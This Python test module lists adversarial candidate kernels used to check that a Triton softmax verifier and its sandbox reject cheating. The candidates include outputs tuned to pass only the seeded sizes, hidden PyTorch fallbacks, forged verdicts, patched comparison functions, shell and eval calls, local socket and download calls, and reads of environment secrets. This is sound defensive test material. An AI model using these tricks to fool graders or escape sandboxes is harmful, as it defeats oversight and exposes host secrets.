"""Adversarial candidates for `tests/fixtures/adversarial/softmax.py`, one technique each.

Each `Attack` says where `verify` must reject it (`gate`: stage and reason) and what happens
when the static gate is bypassed and the candidate goes straight to the sandboxed harness
(`unguarded`): the gate is a first filter that may leak, so the sandbox and the out-of-process
judge must hold on their own. `CONTAINED` means any verdict will do there, because the attack
aims at the machine rather than at the verdict: the test checks instead that nothing reached
the listener on 127.0.0.1, no file appeared outside the scratch folder, no process survived and
no sentinel key came out. `None` means the gate does not reject it: the runtime stage is the
expectation.

Sources are templates: `@PORT@` (the listener), `@OUTSIDE@` (a folder outside the sandbox's
scratch), `@MARK@` (a number in the command line of any process the attack starts) and
`@SECRET_FILE@` (a workspace file holding the sentinel key) are filled in by the test.
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

BASE = Path(__file__).parents[1] / "fixtures" / "adversarial" / "softmax.py"
SOURCE = BASE.read_text()
LAUNCH = "    softmax_kernel[(n_rows,)](out, x, n_cols, BLOCK=triton.next_power_of_2(n_cols))\n"
STORE = "(e / d).to(out_ptr.dtype.element_ty), mask=mask)"
RETURN = "    return out\n\n\ndef softmax_ref"
IMPORTS = "import triton.language as tl\n"
CONTAINED = "contained"
KERNEL = SOURCE[SOURCE.index("@triton.jit") : SOURCE.index("def softmax(x):")]


def base_task(folder: Path):
    """The base task in a copy of its folder made at `folder` (the softmax and its harness)."""
    from kernelbrain.engine.task import find_task

    folder.mkdir(parents=True, exist_ok=True)
    for f in BASE.parent.iterdir():
        if f.is_file():
            shutil.copy(f, folder / f.name)
    return find_task(folder / "softmax.py", "softmax_kernel")


def edit(*pairs: tuple[str, str]) -> str:
    src = SOURCE
    for old, new in pairs:
        assert old in src, old
        src = src.replace(old, new)
    return src


def in_launcher(*lines: str) -> str:
    """Lines run by the entry before its launch."""
    return edit((LAUNCH, "".join(f"    {line}\n" for line in lines) + LAUNCH))


def at_top(*lines: str, launcher: tuple[str, ...] = ()) -> str:
    """Lines after the imports (and optionally lines in the entry)."""
    src = in_launcher(*launcher) if launcher else SOURCE
    return src.replace(IMPORTS, IMPORTS + "".join(f"{line}\n" for line in lines), 1)


@dataclass(frozen=True)
class Attack:
    source: str
    gate: tuple[str, str]  # (stage, reason) from `verify`
    unguarded: tuple[str, str] | str | None = CONTAINED  # past the gate; None: as `gate`


TORCH_IN_KERNEL = (
    "@triton.jit\ndef softmax_kernel(out_ptr, x_ptr, n_cols, BLOCK: tl.constexpr, "
    "XT: tl.constexpr, OT: tl.constexpr):\n    {body}\n\n\n"
)
TENSORS_AS_CONSTEXPRS = (
    "    softmax_kernel[(n_rows,)](out, x, n_cols, BLOCK=triton.next_power_of_2(n_cols), "
    "XT=x, OT=out)\n"
)
FORGED_VERDICT = (
    "from kernelbrain.engine import protocol as kb_m",
    "import sys as kb_sys, os as kb_os",
)
# The kernel computes but writes nothing: only a fooled judge would accept what it returns.
NO_WRITE_KERNEL = (
    "    tl.store(out_ptr + row * n_cols + cols, (e / d).to(out_ptr.dtype.element_ty), mask=mask)\n",
    "    d = d + 0\n",
)

ATTACKS: dict[str, Attack] = {
    # -- wrong answers -------------------------------------------------------------------------
    # The entry rebound after its def, as the last binding wins at run time: the gate follows
    # the binding (`reach.resolve`), and the judge sees PyTorch compute.
    "entry rebound to a PyTorch fallback": Attack(
        edit(
            (
                "\n\ndef softmax_ref",
                "\n\ndef _eager(x):\n    return torch.softmax(x.float(), dim=-1).to(x.dtype)\n\n\n"
                "softmax = _eager\n\n\ndef softmax_ref",
            )
        ),
        ("smoke", "torch-fallback"),
        None,
    ),
    "wrong values": Attack(
        edit((STORE, "(e / d * 1.01).to(out_ptr.dtype.element_ty), mask=mask)")),
        ("smoke", "mismatch"),
        None,
    ),
    "partially unwritten output": Attack(
        edit((STORE, "(e / d).to(out_ptr.dtype.element_ty), mask=mask & (cols < n_cols - 1))")),
        ("smoke", "unwritten-output"),
        None,
    ),
    # Right on every size the seeded sweep takes (the small cases' widths are 64 and 128, the
    # seeded sizes at most 131), wrong past them: the size drawn for each verification is past
    # them too.
    "unwritten only past the seeded sizes": Attack(
        edit(
            (
                STORE,
                "(e / d).to(out_ptr.dtype.element_ty), mask=mask & ((n_cols <= 131) | (cols < n_cols - 1)))",
            )
        ),
        ("sweep", "unwritten-output"),
        None,
    ),
    # Right on widths that are multiples of 2 and on the seeded odd ones, wrong on other odd ones
    "wrong on odd widths past the seeded ones": Attack(
        edit(
            (
                STORE,
                "tl.where((n_cols % 2 == 1) & (n_cols > 131), e / d * 1.5, e / d).to(out_ptr.dtype.element_ty), mask=mask)",
            )
        ),
        ("sweep", "mismatch"),
        None,
    ),
    "NaN output": Attack(
        edit(
            (
                STORE,
                "tl.where(cols == 3, float('nan'), e / d).to(out_ptr.dtype.element_ty), mask=mask)",
            )
        ),
        ("smoke", "nan-output"),
        None,
    ),
    "correct only at power-of-two sizes": Attack(
        edit(('other=float("-inf")', "other=0.0")), ("sweep", "mismatch"), None
    ),
    "correct only for small sizes": Attack(
        edit(("BLOCK=triton.next_power_of_2(n_cols)", "BLOCK=128")),
        ("sweep", "unwritten-output"),
        None,
    ),
    "block written as arithmetic": Attack(
        edit(("BLOCK=triton.next_power_of_2(n_cols)", "BLOCK=2 * 64")),
        ("sweep", "unwritten-output"),
        None,
    ),
    "result written into the input": Attack(
        edit(("    out = torch.empty_like(x)\n", "    out = x\n")),
        ("smoke", "mutated-input"),
        None,
    ),
    "input scribbled after the launch": Attack(
        edit((RETURN, "    x.zero_()\n" + RETURN)), ("smoke", "mutated-input"), None
    ),
    "result without any Triton launch": Attack(
        edit((LAUNCH, "    out.copy_(x * 0 + 1.0 / n_cols)\n")), ("smoke", "torch-fallback"), None
    ),
    # -- a kernel body that computes with PyTorch (the CPU interpreter runs it as Python) --------
    # A GPU launch refuses a tensor or a Python function as a constexpr; the interpreter handed
    # it over as it is, and the kernel's body, run as Python, computed out of the audit's sight.
    "a tensor given as a constexpr, the body calling PyTorch": Attack(
        edit(
            (
                KERNEL,
                TORCH_IN_KERNEL.format(body="OT.copy_(torch.softmax(XT.float(), -1).to(OT.dtype))"),
            ),
            (LAUNCH, TENSORS_AS_CONSTEXPRS),
        ),
        ("smoke", "exception"),
        None,
    ),
    "a tensor given as a constexpr, the body calling its methods": Attack(
        edit(
            (KERNEL, TORCH_IN_KERNEL.format(body="OT.copy_(XT.softmax(-1))")),
            (LAUNCH, TENSORS_AS_CONSTEXPRS),
        ),
        ("smoke", "exception"),
        None,
    ),
    "a tensor wrapped in tl.constexpr, given as a constexpr": Attack(
        edit(
            (KERNEL, TORCH_IN_KERNEL.format(body="OT.value.copy_(XT.value.softmax(-1))")),
            (
                LAUNCH,
                TENSORS_AS_CONSTEXPRS.replace(
                    "XT=x, OT=out", "XT=tl.constexpr(x), OT=tl.constexpr(out)"
                ),
            ),
        ),
        ("smoke", "exception"),
        None,
    ),  # fmt: skip
    "a Python function given as a constexpr": Attack(
        edit(
            (
                KERNEL,
                "@triton.jit\ndef softmax_kernel(out_ptr, x_ptr, n_cols, BLOCK: tl.constexpr, "
                "FN: tl.constexpr):\n    FN()\n\n\n",
            ),
            (
                LAUNCH,
                "    softmax_kernel[(n_rows,)](out, x, n_cols, BLOCK=triton.next_power_of_2("
                "n_cols), FN=lambda: out.copy_(x.softmax(-1)))\n",
            ),
        ),
        ("smoke", "exception"),
        None,
    ),  # fmt: skip
    # -- a class of the language patched by name: every later kernel of the runner computes wrong --
    "a language class patched through functools.update_wrapper": Attack(
        at_top(
            "import functools",
            "class _Sab:",
            "    def __truediv__(self, other):",
            "        return self * other",
            launcher=(
                "functools.update_wrapper(tl.tensor, _Sab, assigned=('__truediv__',), updated=())",
            ),
        ),
        ("gate", "forbidden-attribute"),
        ("smoke", "tampered"),  # past the gate the runner's watch sees the class changed
    ),  # fmt: skip
    "a metaclass that runs at import": Attack(
        at_top(
            "def _mk(name, bases, ns):",
            "    return torch.zeros(1)",
            "class _Boot(metaclass=_mk):",
            "    pass",
        ),
        ("gate", "module-code"),
        CONTAINED,
    ),
    # -- hangs and crashes ---------------------------------------------------------------------
    "infinite loop": Attack(
        in_launcher("while n_cols > 0:", "    n_rows = n_rows + 0"), ("smoke", "timeout"), None
    ),
    "huge allocation": Attack(
        in_launcher("scratch = torch.empty(1 << 44, dtype=torch.uint8, device=x.device)"),
        ("smoke", "out-of-memory"),
        None,
    ),
    "os._exit through attribute chains": Attack(
        in_launcher(
            'getattr(getattr(getattr(torch, "seri" + "alization"), "o" + "s"), "_ex" + "it")(7)'
        ),
        ("gate", "forbidden-call"),
        ("smoke", "exit"),
    ),
    "segfault via ctypes from torch._ops": Attack(
        in_launcher("torch._ops.ctypes.string_at(8)"),
        ("gate", "forbidden-attribute"),
        ("smoke", "segfault"),
    ),
    "raises at import": Attack(at_top("kb_x = 1 // 0"), ("load", "load-error"), None),
    # -- the harness's own checks --------------------------------------------------------------
    "torch fallback": Attack(
        edit((RETURN, "    return torch.softmax(x, dim=-1)\n\n\ndef softmax_ref")),
        ("smoke", "torch-fallback"),
        None,
    ),
    "comparison on the input": Attack(
        in_launcher("finite = x == x"), ("smoke", "torch-fallback"), None
    ),
    "torch compute inside the grid": Attack(
        edit(
            NO_WRITE_KERNEL,
            (
                LAUNCH,
                "    grid = lambda meta: (out.copy_(torch.softmax(x, dim=-1)).shape[0],)\n"
                "    softmax_kernel[grid](out, x, n_cols, BLOCK=triton.next_power_of_2(n_cols))\n",
            ),
        ),
        ("smoke", "torch-fallback"),
        None,
    ),
    "one autotune config wrong": Attack(
        edit(
            (
                "@triton.jit\n",
                '@triton.autotune(configs=[triton.Config({"BLOCK": 4096}), '
                'triton.Config({"BLOCK": 128})], key=["n_cols"])\n@triton.jit\n',
            ),
            (LAUNCH, "    softmax_kernel[(n_rows,)](out, x, n_cols)\n"),
        ),
        ("sweep", "unwritten-output"),
        None,
    ),
    # -- cached results and state between calls ------------------------------------------------
    "output cached in a module dict": Attack(
        edit(
            ("def softmax(x):\n", "_SEEN = {}\n\n\ndef softmax(x):\n"),
            (RETURN, "    _SEEN[x.shape] = out\n" + RETURN),
        ),
        ("gate", "stateful"),
        CONTAINED,
    ),
    "output cached on the input tensor": Attack(
        edit((RETURN, "    x.kb_cached = out\n" + RETURN)), ("gate", "stateful"), CONTAINED
    ),
    "output cached on the function": Attack(
        edit((RETURN, "    softmax.last = out\n" + RETURN)), ("gate", "stateful"), CONTAINED
    ),
    "output cached on a class": Attack(
        edit(
            ("def softmax(x):\n", "class Memo:\n    pass\n\n\ndef softmax(x):\n"),
            (RETURN, "    Memo.last = out\n" + RETURN),
        ),
        ("gate", "stateful"),
        CONTAINED,
    ),
    "lru_cache on the entry": Attack(
        edit(
            ("import torch\n", "import functools\nimport torch\n"),
            ("def softmax(x):", "@functools.lru_cache\ndef softmax(x):"),
        ),
        ("gate", "stateful"),
        CONTAINED,
    ),
    "global counter": Attack(
        edit(
            (
                "def softmax(x):\n",
                "CALLS = 0\n\n\ndef softmax(x):\n    global CALLS\n    CALLS += 1\n",
            ),
        ),
        ("gate", "stateful"),
        CONTAINED,
    ),
    "hard-coded shape": Attack(
        edit((LAUNCH, LAUNCH.replace("(out, x, n_cols,", "(out, x, 64,"))),
        ("gate", "hard-coded-shape"),
        ("smoke", "unwritten-output"),
    ),
    # -- signatures, the reference, nondeterminism, assembly ----------------------------------
    "changed kernel signature": Attack(
        edit(
            (
                "def softmax_kernel(out_ptr, x_ptr, n_cols, BLOCK",
                "def softmax_kernel(out_ptr, x_ptr, n_cols, stride, BLOCK",
            ),
            ("(out, x, n_cols, BLOCK", "(out, x, n_cols, n_cols, BLOCK"),
        ),
        ("gate", "signature-changed"),
        None,
    ),
    "changed entry signature": Attack(
        edit(("def softmax(x):", "def softmax(x, dim=-1):")), ("gate", "signature-changed"), None
    ),
    "calls the reference": Attack(
        edit((RETURN, "    return softmax_ref(x)\n\n\ndef softmax_ref")),
        ("gate", "calls-reference"),
        ("smoke", "torch-fallback"),
    ),
    "nondeterministic atomics": Attack(
        edit(
            (
                "tl.store(out_ptr + row * n_cols + cols, (e / d)",
                "tl.atomic_add(out_ptr + row * n_cols + cols, (e / d)",
            ),
            ("out = torch.empty_like(x)", "out = torch.zeros_like(x)"),
        ),
        ("gate", "nondeterministic-atomics"),
        None,
    ),
    # Two kernels that round differently, taken in turn: each call is within tolerance, and
    # only the determinism stage, given every repeat's own bits by the runner, sees it.
    "bits that change from call to call": Attack(
        edit(
            (
                "def softmax(x):\n",
                KERNEL.replace("def softmax_kernel(", "def softmax_kernel_recip(").replace(
                    "(e / d)", "(e * (1.0 / d))"
                )
                + "def softmax(x):\n"
                "    softmax.calls = getattr(softmax, 'calls', 0) + 1\n"
                "    kernel = softmax_kernel if softmax.calls % 2 else softmax_kernel_recip\n",
            ),
            ("    softmax_kernel[(n_rows,)]", "    kernel[(n_rows,)]"),
        ),
        ("gate", "forbidden-call"),
        ("determinism", "nondeterministic"),
    ),
    "inline assembly": Attack(
        edit(
            (
                "    e = tl.exp(x - m)\n",
                '    e = tl.inline_asm_elementwise("ex2.approx.f32 $0, $1;", "=r,r", [x - m], '
                "dtype=tl.float32, is_pure=True, pack=1)\n",
            )
        ),
        ("gate", "inline-asm"),
        None,
    ),
    # -- forged and fooled verdicts ------------------------------------------------------------
    "forged harness verdict on the answer pipe": Attack(
        at_top(
            *FORGED_VERDICT,
            launcher=(
                "kb_m.write_message(int(kb_sys.argv[3]), kb_m.HarnessResult("
                'True, None, None, "passed all 5 stages"))',
                "kb_os._exit(0)",
            ),
        ),
        ("gate", "forbidden-import"),
        ("smoke", "protocol"),
    ),
    "garbage on the answer pipe": Attack(
        at_top(
            "import sys as kb_sys, os as kb_os",
            launcher=(
                "kb_os.write(int(kb_sys.argv[3]), b'\\x00\\x00\\x00\\x05hello')",
                "kb_os._exit(0)",
            ),
        ),
        ("gate", "forbidden-import"),
        ("smoke", "protocol"),
    ),
    "torch.allclose patched": Attack(
        edit(NO_WRITE_KERNEL).replace(IMPORTS, IMPORTS + "torch.allclose = lambda *a, **k: True\n"),
        ("gate", "module-code"),
        # the kernel writes nothing (smoke fails); the runner's closing check finds its change
        ("smoke", "tampered"),
    ),
    "Tensor.all and any patched": Attack(
        edit(NO_WRITE_KERNEL).replace(
            IMPORTS,
            IMPORTS
            + "def kb_true(*a, **k):\n    return True\n\n\n"
            + "torch.Tensor.all = kb_true\ntorch.Tensor.any = kb_true\n",
        ),
        ("gate", "module-code"),
        # the kernel writes nothing (smoke fails); the runner's closing check finds its change
        ("smoke", "tampered"),
    ),
    "audit dispatch mode disabled": Attack(
        at_top(
            "from torch.utils._python_dispatch import _disable_current_modes",
            launcher=(
                "with _disable_current_modes():",
                "    return torch.softmax(x, dim=-1)",
            ),
        ),
        ("gate", "forbidden-import"),
        ("smoke", "no-triton-launch"),
    ),
    "numpy compute with no launch": Attack(
        in_launcher("return torch.from_numpy(x.numpy()).softmax(-1)"),
        ("gate", "forbidden-attribute"),
        ("smoke", "torch-fallback"),
    ),
    # -- code execution ------------------------------------------------------------------------
    "import os and system": Attack(
        at_top("import os", launcher=("os.system('touch @OUTSIDE@/os-system')",)),
        ("gate", "forbidden-import"),
    ),
    "subprocess that outlives the run": Attack(
        at_top(
            "import subprocess",
            launcher=("subprocess.Popen(['sleep', '@MARK@'], start_new_session=True)",),
        ),
        ("gate", "forbidden-import"),
    ),
    "fork, setsid and exec": Attack(
        at_top(
            "import os",
            launcher=(
                "if os.fork() == 0:",
                "    os.setsid()",
                "    os.execv('/bin/sleep', ['sleep', '@MARK@'])",
            ),
        ),
        ("gate", "forbidden-import"),
    ),
    "socket to 127.0.0.1": Attack(
        at_top(
            "from socket import create_connection",
            launcher=("create_connection(('127.0.0.1', @PORT@), timeout=2).sendall(b'hi')",),
        ),
        ("gate", "forbidden-import"),
    ),
    "torch.hub download from 127.0.0.1": Attack(
        in_launcher(
            "torch.hub.download_url_to_file('http://127.0.0.1:@PORT@/x', '@OUTSIDE@/hub', progress=False)"
        ),
        ("gate", "forbidden-attribute"),
    ),
    "hub through an import alias": Attack(
        at_top(
            "from torch import hub as kb_h",
            launcher=("kb_h.download_url_to_file('http://127.0.0.1:@PORT@/y', '@OUTSIDE@/hub2')",),
        ),
        ("gate", "forbidden-import"),
    ),
    "hub through an assigned alias": Attack(
        in_launcher(
            "kb_t = torch",
            "kb_t.hub.download_url_to_file('http://127.0.0.1:@PORT@/z', '@OUTSIDE@/hub3')",
        ),
        ("gate", "forbidden-attribute"),
    ),
    "torch.save outside": Attack(
        in_launcher("torch.save(x, '@OUTSIDE@/saved.pt')"), ("gate", "forbidden-attribute")
    ),
    "exec": Attack(in_launcher('exec("n_rows = n_rows")'), ("gate", "forbidden-call"), None),
    "eval": Attack(in_launcher('n_cols = eval("n_cols")'), ("gate", "forbidden-call"), None),
    "eval through an alias": Attack(
        in_launcher("kb_ev = eval", "kb_ev(\"__import__('os').system('touch @OUTSIDE@/ev')\")"),
        ("gate", "forbidden-call"),
    ),
    "__import__": Attack(
        in_launcher("__import__('os').system('touch @OUTSIDE@/imp')"),
        ("gate", "forbidden-attribute"),
    ),
    "importlib through getattr": Attack(
        in_launcher(
            "getattr(torch, 'import' + 'lib').import_module('os').system('touch @OUTSIDE@/il')"
        ),
        ("gate", "forbidden-attribute"),
    ),
    "sys.modules through torch": Attack(
        in_launcher("torch.sys.modules['os'].system('touch @OUTSIDE@/sm')"),
        ("gate", "forbidden-attribute"),
    ),
    "compile and run code": Attack(
        in_launcher("kb_c = compile('1', 'f', 'eval')"), ("gate", "forbidden-call"), None
    ),
    "builtins through __globals__": Attack(
        in_launcher(
            "softmax.__globals__['__builtins__']['open']('@OUTSIDE@/glob', 'w').write('x')"
        ),
        ("gate", "forbidden-attribute"),
    ),
    "object.__subclasses__": Attack(
        in_launcher("kb_s = ().__class__.__base__.__subclasses__()"),
        ("gate", "forbidden-attribute"),
    ),
    "pickle payload through torch._utils": Attack(
        in_launcher("torch._utils.pickle.loads(b\"cos\\nsystem\\n(S'touch @OUTSIDE@/pk'\\ntR.\")"),
        ("gate", "forbidden-attribute"),
    ),
    "open a file for writing": Attack(
        in_launcher("open('@OUTSIDE@/opened', 'w').write('x')"), ("gate", "forbidden-call")
    ),
    "write into the workspace": Attack(
        at_top(
            "import pathlib",
            launcher=("pathlib.Path(__file__).with_name('planted.py').write_text('x')",),
        ),
        ("gate", "forbidden-import"),
    ),
    "background thread": Attack(
        at_top(
            "import threading",
            launcher=("threading.Thread(target=lambda: x.zero_(), daemon=True).start()",),
        ),
        ("gate", "forbidden-import"),
    ),
    "decorator that runs at import": Attack(
        at_top(
            "def kb_boot(f):",
            "    torch.empty(1 << 44, dtype=torch.uint8)",
            "    return f",
        ).replace("def softmax(x):", "@kb_boot\ndef softmax(x):"),
        ("gate", "module-code"),
        ("load", "out-of-memory"),
    ),
    "default value that runs at import": Attack(
        at_top("def kb_helper(n=torch.empty(1 << 44, dtype=torch.uint8)):", "    return n"),
        ("gate", "module-code"),
        ("load", "out-of-memory"),
    ),
    "class body that runs at import": Attack(
        at_top("class KbWarm:", "    buf = torch.empty(1 << 44, dtype=torch.uint8)"),
        ("gate", "module-code"),
        ("load", "out-of-memory"),
    ),
    "breakpoint": Attack(in_launcher("breakpoint()"), ("gate", "forbidden-call"), None),
    # -- secrets -------------------------------------------------------------------------------
    "parent environment through /proc": Attack(
        at_top(
            "import os",
            launcher=("raise RuntimeError(open(f'/proc/{os.getppid()}/environ').read())",),
        ),
        ("gate", "forbidden-import"),
    ),
    "own environment printed and raised": Attack(
        at_top(
            "import os",
            launcher=("print(dict(os.environ))", "raise RuntimeError(str(dict(os.environ)))"),
        ),
        ("gate", "forbidden-import"),
    ),
    "secret file raised in a message": Attack(
        in_launcher("raise RuntimeError('key: ' + open('@SECRET_FILE@').read())"),
        ("gate", "forbidden-call"),
        ("smoke", "exception"),
    ),
    "message flood": Attack(
        in_launcher("raise RuntimeError('A' * 2_000_000)"), ("smoke", "exception"), None
    ),
    "imports socket under another name": Attack(
        at_top(
            "import socket as kb_net", launcher=("kb_net.socket().connect(('127.0.0.1', @PORT@))",)
        ),
        ("gate", "forbidden-import"),
    ),
}

# A different, correct implementation: exp2 with a log2(e) scale, two warps.
CORRECT = edit(
    ("e = tl.exp(x - m)", "e = tl.exp2((x - m) * 1.4426950408889634)"),
    (
        LAUNCH,
        LAUNCH.replace(
            "BLOCK=triton.next_power_of_2(n_cols))",
            "BLOCK=triton.next_power_of_2(n_cols), num_warps=2)",
        ),
    ),
)
AUTOTUNED = ATTACKS["one autotune config wrong"].source

HONEST: dict[str, str] = {
    "exp2 and two warps": CORRECT,
    "the original with a comment": SOURCE + "\n# a comment changes nothing\n",
    "autotuned warps": edit(
        (
            "@triton.jit\n",
            "@triton.autotune(configs=[triton.Config({}, num_warps=1), "
            'triton.Config({}, num_warps=4)], key=["n_cols"])\n@triton.jit\n',
        ),
    ),
    "dispatching on the width": edit(
        (
            LAUNCH,
            "    if n_cols <= 64:\n"
            "        softmax_kernel[(n_rows,)](out, x, n_cols, BLOCK=64, num_warps=1)\n"
            "    else:\n"
            "        softmax_kernel[(n_rows,)](out, x, n_cols, BLOCK=triton.next_power_of_2(n_cols))\n",
        ),
    ),
    "reciprocal multiply": edit(
        (
            "tl.store(out_ptr + row * n_cols + cols, (e / d)",
            "tl.store(out_ptr + row * n_cols + cols, (e * (1.0 / d))",
        ),
    ),
    "heuristic block": edit(
        (
            "@triton.jit\n",
            '@triton.heuristics({"BLOCK": lambda args: triton.next_power_of_2(args["n_cols"])})\n'
            "@triton.jit\n",
        ),
        (LAUNCH, "    softmax_kernel[(n_rows,)](out, x, n_cols)\n"),
    ),
}
